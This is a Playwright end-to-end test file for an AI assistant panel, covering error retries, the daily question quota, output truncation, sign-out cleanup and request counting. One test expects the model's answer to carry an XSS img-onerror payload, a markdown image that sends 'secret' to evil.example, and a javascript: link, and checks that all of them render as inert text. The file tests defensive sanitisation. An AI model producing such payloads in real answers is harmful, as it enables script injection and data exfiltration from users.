import { expect } from '@playwright/test';
import { test, unique } from '#e2e/assistant/assistant-page.ts';
import { DEFAULT_ANSWER } from '#e2e/fakes/perplexity-wire.ts';
import { ASSISTANT_FAILED } from '#lib/platform/messages/assistant.ts';

const START = DEFAULT_ANSWER.text.slice(0, 24);
const ANSWER = DEFAULT_ANSWER.text;

test.describe('trouble', () => {
  test.use({ expectedProblems: [/Failed to load resource.*50[024]/] });

  test('a failed answer can be retried and costs nothing; one that breaks off keeps what has arrived', async ({
    account: _signedIn,
    assistant,
    builder,
  }) => {
    await builder.open();
    await assistant.expand();
    await assistant.ask(unique('{{server-error once}} Who?'));
    await expect(assistant.conversation.getByRole('alert')).toHaveText(ASSISTANT_FAILED);
    await expect(assistant.panel.getByText('5 of 5 questions left today')).toBeVisible();
    await assistant.conversation.getByRole('button', { name: 'Try again' }).click();
    await expect(assistant.conversation).toContainText(ANSWER);
    await expect(assistant.conversation.getByRole('alert')).toBeHidden();
    await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();

    await assistant.ask(unique('{{cut}} Who?'));
    await expect(assistant.conversation.getByRole('alert')).toContainText(ASSISTANT_FAILED);
    await expect(assistant.conversation.getByRole('alert')).toContainText(START);
    await expect(assistant.conversation.getByRole('button', { name: 'Try again' })).toBeVisible();
    await expect(assistant.field).toBeEnabled();
  });

  test('a model’s output stays text, and a megabyte or 500 sources are cut; signing out leaves nothing of a question behind', async ({
    account: _signedIn,
    assistant,
    builder,
    page,
    problems,
  }) => {
    await builder.open();
    await assistant.expand();
    await test.step('markup and unsafe links stay text', async () => {
      await assistant.ask(unique('{{hostile}} Who?'));
      await expect(assistant.conversation).toContainText('<img src=x onerror="window.intruder=true">');
      await expect(assistant.conversation).toContainText(
        '![](https://evil.example/?q=secret) [click](javascript:window.intruder=true)',
      );
      await expect(assistant.conversation.locator('img, script, iframe')).toHaveCount(0);
      await assistant.conversation.getByRole('button', { name: 'Show sources (1)' }).click();
      const links = await assistant.conversation
        .getByRole('link')
        .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
      expect(new Set(links)).toEqual(new Set(['https://good.example.org/source']));
      expect(await page.evaluate(() => 'intruder' in window)).toBe(false);
      expect(problems).toEqual([]);
    });
    await test.step('a megabyte is cut', async () => {
      await assistant.ask(unique('{{large}} Who?'));
      await expect(assistant.panel.getByText('3 of 5 questions left today')).toBeVisible();
      expect((await assistant.conversation.textContent())?.length).toBeLessThan(18_000);
    });
    await test.step('500 sources are cut, and the answer scrolls into view even if the user has scrolled back', async () => {
      await assistant.conversation.evaluate(
        (list) =>
          new Promise((resolve) => {
            list.addEventListener('scroll', resolve, { once: true });
            list.scrollTo({ top: 0 });
          }),
      );
      await assistant.ask(unique('{{many-citations}} Who?'));
      await expect(assistant.conversation.getByRole('button', { name: 'Show sources (20)' })).toBeInViewport();
    });
    await test.step('signing out removes a question still waiting for its answer', async () => {
      const question = unique('{{hang}} Who?');
      await assistant.ask(question);
      await expect(assistant.conversation).toContainText(question);
      await page.getByRole('button', { name: 'Account menu' }).click();
      await page.getByRole('button', { name: 'Sign Out' }).click();
      await expect(assistant.panel.getByText('Authentication Required')).toBeVisible();
      await expect(assistant.conversation).not.toContainText(question);
      await expect(assistant.field).toBeDisabled();
    });
  });
});

test('of fifty questions abandoned after 50 ms, exactly those sent to the model count', async ({
  account,
  baseURL,
}) => {
  const asked = unique('Who, again and again?');
  const ask = (signal?: AbortSignal) =>
    fetch(`${baseURL}/api/ai/chat`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${account.token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ messages: [{ role: 'user', content: asked }], source: 'widget' }),
      ...(signal && { signal }),
    });
  await Promise.all(Array.from({ length: 50 }, () => ask(AbortSignal.timeout(50)).catch(() => null)));
  // Those abandoned before the server has read them go nowhere, so the rest of the limit is used up here.
  let status = 200;
  while (status === 200) ({ status } = await ask());
  expect(status).toBe(429);
  const counts = async () => {
    const profile = await fetch(`${baseURL}/api/auth/profile`, {
      headers: { Authorization: `Bearer ${account.token}` },
    });
    const { chat } = (await profile.json()) as { chat: { used: number } };
    const fake = await fetch(`${process.env.PERPLEXITY_BASE_URL}/__calls`);
    const { calls } = (await fake.json()) as { calls: { question: string }[] };
    return { used: chat.used, calls: calls.filter(({ question }) => question === asked).length };
  };
  // The server finishes the requests it has accepted.
  await expect.poll(counts, { timeout: 20_000 }).toEqual({ used: 5, calls: 5 });
});
